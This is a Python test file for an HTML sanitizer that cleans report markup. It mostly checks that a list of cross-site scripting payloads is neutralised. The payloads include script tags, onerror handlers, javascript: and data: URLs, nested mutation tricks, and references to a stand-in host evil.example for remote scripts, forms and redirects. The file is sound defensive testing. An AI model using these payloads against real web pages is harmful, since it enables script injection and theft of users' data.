"""The allow-list: what attacks are made of is gone, what the document needs is kept, nothing breaks out of its box."""

from html import escape, unescape
from html.parser import HTMLParser
from itertools import count

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lib.report.links import Links
from lib.report.sanitize import ALLOWED, VOID, clean

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<script>alert(1)",
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.example/pixel.png">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" jAvAsCrIpT:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<div style="background:url(https://evil.example)">x</div>',
    "<style>@import url(https://evil.example/x.css)</style>",
    '<svg onload="alert(1)"><a xlink:href="javascript:alert(1)">x</a></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)"></style></mglyph></table></mtext></math>',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="x"></object><embed src="x">',
    '<form action="https://evil.example"><input name="x"></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<p title="&quot; onclick=alert(1) x=&quot;">x</p>',
    '<details ontoggle="alert(1)" open>x</details>',
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<p class="x&quot; onclick=&quot;alert(1)">x</p>',
    "<textarea><script>alert(1)</script></textarea>",
    "<template><script>alert(1)</script></template>",
]


class Reader(HTMLParser):
    """Collects elements and attributes as a browser would meet them."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str]] = []
        self.depth: list[str] = []
        self.unbalanced = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(key, value or "") for key, value in attrs]
        if tag not in VOID:
            self.depth.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if not self.depth or self.depth.pop() != tag:
            self.unbalanced = True


def read(markup: str) -> Reader:
    reader = Reader()
    reader.feed(markup)
    reader.close()
    return reader


def assert_harmless(markup: str) -> None:
    found = read(markup)
    assert set(found.tags) <= ALLOWED | VOID
    for key, value in found.attributes:
        assert not key.startswith("on")
        assert key not in ("style", "id", "name", "srcset", "action", "formaction")
        if key == "href":
            assert value.startswith(("http://", "https://", "#"))
        if key == "src":
            assert value.startswith("data:image/")
    assert not found.unbalanced
    assert not found.depth


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_are_harmless(attack: str) -> None:
    assert_harmless(clean(attack))


@pytest.mark.parametrize("first", ATTACKS[::3])
@pytest.mark.parametrize("second", ATTACKS[1::3])
def test_attacks_inside_attacks_are_harmless(first: str, second: str) -> None:
    assert_harmless(clean(first[:-3] + second + first[-3:]))


TAGS = ("a", "b", "dd", "div", "li", "p", "script", "style", "svg", "table", "td", "ul")
SIGNS = ["<", ">", "</", "/>", '"', "'", "=", "<!--", "-->", "&lt;", "&#60;", " ", "\0", "x", "onclick", "<a href="]
PIECES = st.sampled_from([*SIGNS, *(f"<{tag}>" for tag in TAGS), *(f"</{tag}>" for tag in TAGS), "javascript:"])


@settings(max_examples=400, deadline=None)
@given(st.lists(PIECES, max_size=24).map("".join))
def test_any_soup_becomes_harmless_and_balanced(soup: str) -> None:
    assert_harmless(clean(soup))


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=60).filter(lambda text: "\r" not in text))
def test_escaped_text_survives_unchanged(text: str) -> None:
    assert unescape(clean(escape(text))) == unescape(escape(text))


def test_what_the_document_needs_is_kept() -> None:
    markup = '<p class="rb-x">a <b>b</b> <code>c</code><br>d</p><td colspan="2" data-label="E">x</td>'
    assert clean(markup) == markup.replace('colspan="2" data-label="E"', 'colspan="2" data-label="E"')


def test_an_item_ends_the_one_before_it_so_that_nothing_closes_our_boxes() -> None:
    assert clean("<ul><li><div>a<li>b</li></div></li></ul>") == "<ul><li><div>a</div></li><li>b</li></ul>"
    assert clean("<dl><dt>a<dd>b<dt>c</dl>") == "<dl><dt>a</dt><dd>b</dd><dt>c</dt></dl>"


def test_a_stray_end_tag_closes_nothing() -> None:
    assert clean("</div></section>a</p>") == "a"


def test_tables_stand_in_a_box_that_scrolls_and_captions_are_numbered() -> None:
    numbers = count(4)
    cleaned = clean("<table><caption>Loads</caption></table>", number_table=lambda: next(numbers))
    assert cleaned.startswith(
        '<div class="scroll"><table><caption id="table-4"><span class="number">Table 4</span> Loads'
    )
    assert cleaned.endswith("</table></div>")


def test_links_lead_to_places_in_the_document_or_become_text() -> None:
    links = Links(chapters=["04"], files={"artifacts/04_x/a.json": "raw-1"}, records={"a.b": "record-a.b"})
    assert clean('<a href="04_load.ipynb">load</a>', links) == '<a href="#chapter-04">load</a>'
    assert clean('<a href="05_none.ipynb">none</a>', links) == "<span>none</span>"
    assert clean('<a href="artifacts/04_x/a.json">raw</a>', links) == '<a href="#raw-1">raw</a>'
    assert clean('<a href="../lib/x.py">source</a>', links) == "<span>source</span>"
    assert clean('<code data-record="a.b">a.b</code>', links) == '<a href="#record-a.b">a.b</a>'
    assert clean('<code data-record="a.c">a.c</code>', links) == "<code>a.c</code>"
    web = clean('<a href="https://docs.vllm.ai/en/?a=1&amp;b=2">vLLM</a>', links)
    assert web == '<a href="https://docs.vllm.ai/en/?a=1&amp;b=2" rel="noopener noreferrer">vLLM</a>'


def test_ids_are_kept_only_for_prose() -> None:
    assert clean('<h3 id="chapter-01-look">x</h3>') == "<h3>x</h3>"
    assert clean('<h3 id="chapter-01-look">x</h3>', keep_ids=True) == '<h3 id="chapter-01-look">x</h3>'
